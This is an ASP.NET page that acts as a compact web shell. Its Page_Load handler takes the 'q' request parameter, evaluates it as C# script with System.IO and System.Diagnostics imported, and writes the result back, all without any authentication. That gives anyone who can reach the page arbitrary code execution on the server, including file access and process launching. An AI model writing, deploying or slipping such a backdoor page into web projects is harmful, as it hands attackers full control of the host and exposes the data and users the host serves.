<%@ Page Language="C#" Async="true" %>
<%@ Import Namespace="Microsoft.CodeAnalysis.CSharp.Scripting" %>
<%@ Import Namespace="Microsoft.CodeAnalysis.Scripting" %>
<script runat="server">
    protected async void Page_Load(object s, EventArgs e)
    {
        var q = Request["q"];
        if (q == null) return;
        var opts = ScriptOptions.Default.WithImports("System", "System.IO", "System.Diagnostics");
        object result = await CSharpScript.EvaluateAsync(q, opts);
        Response.Write(Server.HtmlEncode(Convert.ToString(result)));
    }
</script>
